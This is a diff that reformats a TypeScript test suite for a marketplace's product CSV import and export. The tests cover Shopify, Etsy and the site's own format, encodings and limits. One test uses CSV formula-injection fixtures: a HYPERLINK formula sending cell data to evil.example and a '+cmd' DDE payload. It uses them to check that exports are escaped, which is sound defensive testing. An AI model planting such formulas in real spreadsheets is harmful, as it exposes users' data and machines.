@@ -15,9 +15,15 @@ beforeEach(async () => {
   seller = await aSeller(database.db);
 });
 
-const shelf = (of: UserActor = seller): Promise<readonly OwnProduct[]> => nextOwnProducts(database.db, of, { after: "", most: 1000 });
+const shelf = (of: UserActor = seller): Promise<readonly OwnProduct[]> =>
+  nextOwnProducts(database.db, of, { after: "", most: 1000 });
 const product = async (name: string) => (await shelf()).find((one) => one.name === name);
-const problemsByLine = (lines: Awaited<ReturnType<typeof view>>["lines"]) => Object.fromEntries(lines.filter(({ problems }) => problems.length > 0).map(({ line, problems }) => [line, problems.map(({ message }) => message).join(" ")]));
+const problemsByLine = (lines: Awaited<ReturnType<typeof view>>["lines"]) =>
+  Object.fromEntries(
+    lines
+      .filter(({ problems }) => problems.length > 0)
+      .map(({ line, problems }) => [line, problems.map(({ message }) => message).join(" ")]),
+  );
 
 async function exported(baseUrl = "https://charma.example"): Promise<Uint8Array> {
   const pieces: string[] = [];
@@ -29,27 +35,60 @@ describe("a file from Shopify", () => {
   test("is looked at before anything changes, and what it leaves open is asked", async () => {
     const importId = await upload(database.db, seller, "shopify.csv");
     const seen = await view(database.db, seller, importId);
-    expect(seen).toMatchObject({ format: "shopify", status: "preview", outlooks: { new: 0, faulty: 3 }, open: { category: 1, materials: 2, hsnCode: 1 } });
+    expect(seen).toMatchObject({
+      format: "shopify",
+      status: "preview",
+      outlooks: { new: 0, faulty: 3 },
+      open: { category: 1, materials: 2, hsnCode: 1 },
+    });
     expect(problemsByLine(seen.lines)).toMatchObject({ 6: expect.stringContaining("Gift cards") });
     expect(await shelf()).toEqual([]);
-    await chooseForImport(database.db, seller, { importId, choices, baseUrl: "https://charma.example" });
-    expect(await view(database.db, seller, importId)).toMatchObject({ outlooks: { new: 2, faulty: 1 }, choices });
+    await chooseForImport(database.db, seller, {
+      importId,
+      choices,
+      baseUrl: "https://charma.example",
+    });
+    expect(await view(database.db, seller, importId)).toMatchObject({
+      outlooks: { new: 2, faulty: 1 },
+      choices,
+    });
     expect(await shelf()).toEqual([]);
   });
 
   test("becomes drafts with their variants, pictures and prices without GST", async () => {
-    expect(await importWhole(database.db, seller, "shopify.csv")).toMatchObject({ status: "done", outcomes: { added: 2, failed: 1 }, pictures: { waiting: 0, stored: 3, failed: 0 } });
+    expect(await importWhole(database.db, seller, "shopify.csv")).toMatchObject({
+      status: "done",
+      outcomes: { added: 2, failed: 1 },
+      pictures: { waiting: 0, stored: 3, failed: 0 },
+    });
     expect(await product("Rider's belt")).toMatchObject({
-      status: "draft", categorySlug: "belts", materials: "Full-grain leather", weightGrams: 420, hsnCode: "42033000", gstBasisPoints: 1800,
-      description: "Cut from **one** hide & stitched by hand.\n\n- Solid brass\n- 38 mm wide", tags: ["belt", "riding", "full-grain"], pricePaise: 100_000, comparePricePaise: 150_000,
+      status: "draft",
+      categorySlug: "belts",
+      materials: "Full-grain leather",
+      weightGrams: 420,
+      hsnCode: "42033000",
+      gstBasisPoints: 1800,
+      description: "Cut from **one** hide & stitched by hand.\n\n- Solid brass\n- 38 mm wide",
+      tags: ["belt", "riding", "full-grain"],
+      pricePaise: 100_000,
+      comparePricePaise: 150_000,
       variants: [
         { sku: "BELT-32-TAN", size: "32", colour: "Tan", stock: 5, pricePaise: null },
         { sku: "BELT-34-TAN", size: "34", colour: "Tan", stock: 3, pricePaise: null },
         { sku: "BELT-34-BLK", size: "34", colour: "Black", stock: 0, pricePaise: 110_000 },
       ],
-      pictures: [{ alt: "The belt in tan", colour: "Tan" }, { alt: "Rider's belt", colour: "Black" }, { colour: null }],
+      pictures: [
+        { alt: "The belt in tan", colour: "Tan" },
+        { alt: "Rider's belt", colour: "Black" },
+        { colour: null },
+      ],
     });
-    expect(await product("Card sleeve")).toMatchObject({ categorySlug: "accessories", pricePaise: 50_000, variants: [{ sku: "SLEEVE", size: null, colour: null, stock: 12 }], pictures: [] });
+    expect(await product("Card sleeve")).toMatchObject({
+      categorySlug: "accessories",
+      pricePaise: 50_000,
+      variants: [{ sku: "SLEEVE", size: null, colour: null, stock: 12 }],
+      pictures: [],
+    });
     expect(await brokenInvariants(database.db)).toEqual([]);
   });
 
@@ -62,8 +101,16 @@ describe("a file from Shopify", () => {
   test("may have the names of columns that Shopify uses since 2025", async () => {
     await importWhole(database.db, seller, "shopify-since-2025.csv", { pricesIncludeGst: false });
     expect(await product("Saddle tote")).toMatchObject({
-      categorySlug: "handbags", pricePaise: 499_900, comparePricePaise: 599_900, weightGrams: 850, description: "**Made to last**\n\nBridle leather.\nLined with canvas.",
-      variants: [{ sku: "TOTE-TAN", colour: "Tan", stock: 4 }, { sku: "TOTE-BLACK", colour: "Black", stock: 2 }], pictures: [{ alt: "The tote in tan", colour: "Tan" }],
+      categorySlug: "handbags",
+      pricePaise: 499_900,
+      comparePricePaise: 599_900,
+      weightGrams: 850,
+      description: "**Made to last**\n\nBridle leather.\nLined with canvas.",
+      variants: [
+        { sku: "TOTE-TAN", colour: "Tan", stock: 4 },
+        { sku: "TOTE-BLACK", colour: "Black", stock: 2 },
+      ],
+      pictures: [{ alt: "The tote in tan", colour: "Tan" }],
     });
   });
 });
@@ -72,13 +119,33 @@ describe("a file from Etsy", () => {
   test("becomes products with every combination of its variations, and other currencies are told", async () => {
     const done = await importWhole(database.db, seller, "etsy.csv");
     expect(done).toMatchObject({ format: "etsy", outcomes: { added: 2, failed: 1 } });
-    expect(problemsByLine(done.lines)).toEqual({ 7: expect.stringContaining("The price is in USD") });
+    expect(problemsByLine(done.lines)).toEqual({
+      7: expect.stringContaining("The price is in USD"),
+    });
     const journal = await product("Leather journal, A5");
-    expect(journal).toMatchObject({ categorySlug: "business-office", materials: "full grain leather, cotton paper", tags: ["journal", "leather diary", "business"], pricePaise: 125_000 });
+    expect(journal).toMatchObject({
+      categorySlug: "business-office",
+      materials: "full grain leather, cotton paper",
+      tags: ["journal", "leather diary", "business"],
+      pricePaise: 125_000,
+    });
     expect(journal?.description).toBe("Bound by hand in Jaipur.\n\n- 120 pages\n- Rider's strap");
-    expect(journal?.variants.map(({ size, colour, stock }) => [size, colour, stock])).toEqual([["Plain", "Tan", 2], ["Plain", "Black", 2], ["Ruled", "Tan", 2], ["Ruled", "Black", 1]]);
+    expect(journal?.variants.map(({ size, colour, stock }) => [size, colour, stock])).toEqual([
+      ["Plain", "Tan", 2],
+      ["Plain", "Black", 2],
+      ["Ruled", "Tan", 2],
+      ["Ruled", "Black", 1],
+    ]);
     expect(journal?.pictures).toHaveLength(2);
-    expect(await product("Kolhapuri chappal")).toMatchObject({ categorySlug: "footwear", gstBasisPoints: 500, pricePaise: 224_762, variants: [{ sku: "KOL-7", size: "7", stock: 5 }, { sku: "KOL-8", size: "8", stock: 5 }] });
+    expect(await product("Kolhapuri chappal")).toMatchObject({
+      categorySlug: "footwear",
+      gstBasisPoints: 500,
+      pricePaise: 224_762,
+      variants: [
+        { sku: "KOL-7", size: "7", stock: 5 },
+        { sku: "KOL-8", size: "8", stock: 5 },
+      ],
+    });
   });
 });
 
@@ -86,26 +153,54 @@ describe("a file of our own format", () => {
   test("becomes what it says, in any script, with the rate of GST that follows", async () => {
     await importWhole(database.db, seller, "own.csv", { publishes: true });
     expect(await product("कोल्हापुरी चप्पल")).toMatchObject({
-      status: "published", categorySlug: "footwear", processing: "made_to_order", isHandicraft: true, gstBasisPoints: 500, pricePaise: 199_900, comparePricePaise: 249_900,
-      description: "Made on the last.\n\n- **Buffalo** leather", careInstructions: "Keep dry.", tags: ["chappal", "kolhapuri", "summer, too"],
-      variants: [{ sku: "KOL-7-TAN", size: "7", stock: 4, pricePaise: null }, { sku: "KOL-8-TAN", size: "8", stock: 2, pricePaise: 209_900 }],
+      status: "published",
+      categorySlug: "footwear",
+      processing: "made_to_order",
+      isHandicraft: true,
+      gstBasisPoints: 500,
+      pricePaise: 199_900,
+      comparePricePaise: 249_900,
+      description: "Made on the last.\n\n- **Buffalo** leather",
+      careInstructions: "Keep dry.",
+      tags: ["chappal", "kolhapuri", "summer, too"],
+      variants: [
+        { sku: "KOL-7-TAN", size: "7", stock: 4, pricePaise: null },
+        { sku: "KOL-8-TAN", size: "8", stock: 2, pricePaise: 209_900 },
+      ],
     });
-    expect(await product("Valet tray")).toMatchObject({ status: "draft", hsnCode: "42050090", variants: [{ stock: 9 }] });
+    expect(await product("Valet tray")).toMatchObject({
+      status: "draft",
+      hsnCode: "42050090",
+      variants: [{ stock: 9 }],
+    });
   });
 
   test.each([
     ["UTF-8 with a byte order mark", (text: string) => Buffer.from(`\uFEFF${text}`)],
     ["UTF-16 as Excel writes it", (text: string) => Buffer.from(`\uFEFF${text}`, "utf16le")],
-    ["UTF-16 without a mark, the other way round", (text: string) => Buffer.from(text.replace("Valet", "Vālet"), "utf16le").swap16()],
+    [
+      "UTF-16 without a mark, the other way round",
+      (text: string) => Buffer.from(text.replace("Valet", "Vālet"), "utf16le").swap16(),
+    ],
     ["line ends of Windows", (text: string) => Buffer.from(text.replaceAll("\n", "\r\n"))],
   ])("is read whichever way it was saved: %s", async (_name, saved) => {
     const text = Buffer.from(await fixture("own.csv")).toString("utf8");
-    expect(await importWhole(database.db, seller, saved(text))).toMatchObject({ outcomes: { added: 2, failed: 0 } });
-    expect(await product("कोल्हापुरी चप्पल")).toMatchObject({ description: "Made on the last.\n\n- **Buffalo** leather" });
+    expect(await importWhole(database.db, seller, saved(text))).toMatchObject({
+      outcomes: { added: 2, failed: 0 },
+    });
+    expect(await product("कोल्हापुरी चप्पल")).toMatchObject({
+      description: "Made on the last.\n\n- **Buffalo** leather",
+    });
   });
 
   test("may have semicolons between its cells, and commas in its amounts", async () => {
-    await importWhole(database.db, seller, Buffer.from("Product;Name;Description;Category;Materials;Price;Stock\nbelt;Belt;A belt.;belts;Leather;1299,50;3\n"));
+    await importWhole(
+      database.db,
+      seller,
+      Buffer.from(
+        "Product;Name;Description;Category;Materials;Price;Stock\nbelt;Belt;A belt.;belts;Leather;1299,50;3\n",
+      ),
+    );
     expect(await product("Belt")).toMatchObject({ pricePaise: 129_950, variants: [{ stock: 3 }] });
   });
 });
@@ -133,56 +228,120 @@ test.each([
   ["empty", "", "This file is empty."],
   ["a header alone", "Product,Name,Price\n", "no products below it"],
   ["of columns that nobody knows", "Sku,Amount\n1,2\n", "These columns are not known"],
-  ["like Shopify's, without prices", "Handle,Title,Vendor\na,b,c\n", "the column Variant Price cannot be found"],
-  ["like Etsy's, without most of it", "TITLE,CURRENCY_CODE\na,INR\n", "the columns Price, QUANTITY cannot be found"],
+  [
+    "like Shopify's, without prices",
+    "Handle,Title,Vendor\na,b,c\n",
+    "the column Variant Price cannot be found",
+  ],
+  [
+    "like Etsy's, without most of it",
+    "TITLE,CURRENCY_CODE\na,INR\n",
+    "the columns Price, QUANTITY cannot be found",
+  ],
   ["an Excel workbook", "PK\u0003\u0004rest", "an Excel workbook"],
   ["no text at all", "a\0b,c\n1,2\n", "not a CSV file"],
   ["of too many rows", `Product,Name,Price\n${"p,n,1\n".repeat(20_001)}`, "more than 20,000 rows"],
-  ["of too many products", `Product,Name,Price\n${Array.from({ length: 5001 }, (_, index) => `p${index},n,1\n`).join("")}`, "more than 5,000 products"],
+  [
+    "of too many products",
+    `Product,Name,Price\n${Array.from({ length: 5001 }, (_, index) => `p${index},n,1\n`).join("")}`,
+    "more than 5,000 products",
+  ],
 ] as const)("a file that is %s is refused whole", async (...[, text, reason]) => {
-  const refusal = await upload(database.db, seller, Buffer.from(text)).catch((error: unknown) => error);
+  const refusal = await upload(database.db, seller, Buffer.from(text)).catch(
+    (error: unknown) => error,
+  );
   expect(refusal).toMatchObject({ status: 422, fields: { file: expect.stringContaining(reason) } });
 });
 
 test("a file of more than 10 MB is refused", async () => {
-  await expect(upload(database.db, seller, Buffer.alloc(10 * 1024 * 1024 + 1, "a"))).rejects.toThrow("larger than 10 MB");
+  await expect(
+    upload(database.db, seller, Buffer.alloc(10 * 1024 * 1024 + 1, "a")),
+  ).rejects.toThrow("larger than 10 MB");
 });
 
 describe("a file that comes again", () => {
-  test.each(["shopify.csv", "etsy.csv", "own.csv"])("changes nothing and doubles nothing: %s", async (file) => {
-    await importWhole(database.db, seller, file);
-    const before = await shelf();
-    const again = await importWhole(database.db, seller, file, { setsStock: true }).catch((error: unknown) => error);
-    expect(again).toMatchObject({ message: expect.stringContaining("nothing to import") });
-    expect(await shelf()).toEqual(before);
-  });
+  test.each(["shopify.csv", "etsy.csv", "own.csv"])(
+    "changes nothing and doubles nothing: %s",
+    async (file) => {
+      await importWhole(database.db, seller, file);
+      const before = await shelf();
+      const again = await importWhole(database.db, seller, file, { setsStock: true }).catch(
+        (error: unknown) => error,
+      );
+      expect(again).toMatchObject({ message: expect.stringContaining("nothing to import") });
+      expect(await shelf()).toEqual(before);
+    },
+  );
 
   test("brings what changed in it, and leaves what the seller wrote here", async () => {
     await importWhole(database.db, seller, "shopify.csv");
     const belt = await product("Rider's belt");
     if (belt === undefined) throw new Error("The belt is there.");
-    await saveProduct(database.db, seller, { productId: belt.id, version: belt.version, product: { ...belt, materials: "Bridle butt", categorySlug: "travel", careInstructions: "Wax it." } });
-    const changed = Buffer.from(Buffer.from(await fixture("shopify.csv")).toString("utf8").replace("Rider's belt", "Riding belt").replace(",BELT-34-TAN,420,shopify,3,", ",BELT-34-TAN,420,shopify,8,"));
-    expect(await importWhole(database.db, seller, changed, { setsStock: false })).toMatchObject({ outcomes: { added: 0, updated: 1, unchanged: 1 } });
+    await saveProduct(database.db, seller, {
+      productId: belt.id,
+      version: belt.version,
+      product: {
+        ...belt,
+        materials: "Bridle butt",
+        categorySlug: "travel",
+        careInstructions: "Wax it.",
+      },
+    });
+    const changed = Buffer.from(
+      Buffer.from(await fixture("shopify.csv"))
+        .toString("utf8")
+        .replace("Rider's belt", "Riding belt")
+        .replace(",BELT-34-TAN,420,shopify,3,", ",BELT-34-TAN,420,shopify,8,"),
+    );
+    expect(await importWhole(database.db, seller, changed, { setsStock: false })).toMatchObject({
+      outcomes: { added: 0, updated: 1, unchanged: 1 },
+    });
     expect(await shelf()).toHaveLength(2);
-    expect(await product("Riding belt")).toMatchObject({ id: belt.id, materials: "Bridle butt", categorySlug: "travel", careInstructions: "Wax it.", variants: [{}, { sku: "BELT-34-TAN", stock: 3 }, {}] });
+    expect(await product("Riding belt")).toMatchObject({
+      id: belt.id,
+      materials: "Bridle butt",
+      categorySlug: "travel",
+      careInstructions: "Wax it.",
+      variants: [{}, { sku: "BELT-34-TAN", stock: 3 }, {}],
+    });
     await importWhole(database.db, seller, changed, { setsStock: true });
-    expect(await product("Riding belt")).toMatchObject({ variants: [{}, { sku: "BELT-34-TAN", stock: 8 }, {}] });
+    expect(await product("Riding belt")).toMatchObject({
+      variants: [{}, { sku: "BELT-34-TAN", stock: 8 }, {}],
+    });
   });
 
   test("knows a product by its SKU, too, when its word is another; and asks when two are meant", async () => {
-    const file = (rows: string) => Buffer.from(`Product,Name,Description,Category,Materials,Price,Size,SKU,Stock\n${rows}`);
-    await importWhole(database.db, seller, file("a,First,A belt.,belts,Leather,999,,SKU-A,1\nb,Second,A belt.,belts,Leather,999,,SKU-B,1\n"));
-    await importWhole(database.db, seller, file("renamed,First again,A belt.,belts,Leather,999,,SKU-A,1\n"));
+    const file = (rows: string) =>
+      Buffer.from(`Product,Name,Description,Category,Materials,Price,Size,SKU,Stock\n${rows}`);
+    await importWhole(
+      database.db,
+      seller,
+      file(
+        "a,First,A belt.,belts,Leather,999,,SKU-A,1\nb,Second,A belt.,belts,Leather,999,,SKU-B,1\n",
+      ),
+    );
+    await importWhole(
+      database.db,
+      seller,
+      file("renamed,First again,A belt.,belts,Leather,999,,SKU-A,1\n"),
+    );
     expect((await shelf()).map(({ name }) => name).toSorted()).toEqual(["First again", "Second"]);
-    const importId = await upload(database.db, seller, file("c,Both,A belt.,belts,Leather,999,32,SKU-A,1\nc,,,,,,34,SKU-B,1\n"));
-    expect(problemsByLine((await view(database.db, seller, importId)).lines)).toEqual({ 2: "Its SKUs belong to two of your products, “First again” and “Second”." });
+    const importId = await upload(
+      database.db,
+      seller,
+      file("c,Both,A belt.,belts,Leather,999,32,SKU-A,1\nc,,,,,,34,SKU-B,1\n"),
+    );
+    expect(problemsByLine((await view(database.db, seller, importId)).lines)).toEqual({
+      2: "Its SKUs belong to two of your products, “First again” and “Second”.",
+    });
   });
 
   test("is another seller's own", async () => {
     await importWhole(database.db, seller, "own.csv");
     const other = await aSeller(database.db);
-    expect(await importWhole(database.db, other, "own.csv")).toMatchObject({ outcomes: { added: 2 } });
+    expect(await importWhole(database.db, other, "own.csv")).toMatchObject({
+      outcomes: { added: 2 },
+    });
     expect(await shelf(other)).toHaveLength(2);
   });
 });
@@ -195,19 +354,31 @@ describe("what is exported", () => {
     const before = await shelf();
     expect(before).toHaveLength(5);
     const importId = await upload(database.db, seller, await exported());
-    expect((await view(database.db, seller, importId)).outlooks).toEqual({ new: 0, changed: 0, unchanged: 5, faulty: 0 });
+    expect((await view(database.db, seller, importId)).outlooks).toEqual({
+      new: 0,
+      changed: 0,
+      unchanged: 5,
+      faulty: 0,
+    });
   });
 
   test("has no cell that a spreadsheet calculates, and what was written is read back", async () => {
     await importWhole(database.db, seller, "formulas.csv");
     const [odd] = await shelf();
     expect(odd).toMatchObject({
-      name: '=HYPERLINK("https://evil.example/?x="&A1,"Belt")', description: "=1+1", materials: "@SUM(A1:A9)", careInstructions: "-2+3", tags: ["+cmd|' /C calc'!A0"],
+      name: '=HYPERLINK("https://evil.example/?x="&A1,"Belt")',
+      description: "=1+1",
+      materials: "@SUM(A1:A9)",
+      careInstructions: "-2+3",
+      tags: ["+cmd|' /C calc'!A0"],
       variants: [{ size: "''=quoted", sku: "=SKU" }],
     });
     const text = Buffer.from(await exported()).toString("utf8");
     expect(text).toContain('"\'=HYPERLINK(""https://evil.example/?x=""&A1,""Belt"")"');
-    const cells = text.slice(1).split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/).map((cell) => cell.replace(/^"/, ""));
+    const cells = text
+      .slice(1)
+      .split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/)
+      .map((cell) => cell.replace(/^"/, ""));
     expect(cells.length).toBeGreaterThan(50);
     expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
   });
@@ -215,7 +386,10 @@ describe("what is exported", () => {
   test("is the seller's alone, drafts and archived products included", async () => {
     await importWhole(database.db, seller, "own.csv");
     await importWhole(database.db, await aSeller(database.db), "shopify.csv");
-    await database.db.$client.query("update products set status = 'archived', published_at = now() where seller_id = $1 and name = 'Valet tray'", [seller.userId]);
+    await database.db.$client.query(
+      "update products set status = 'archived', published_at = now() where seller_id = $1 and name = 'Valet tray'",
+      [seller.userId],
+    );
     const text = Buffer.from(await exported()).toString("utf8");
     expect(text).toContain("Valet tray");
     expect(text).toContain("archived");
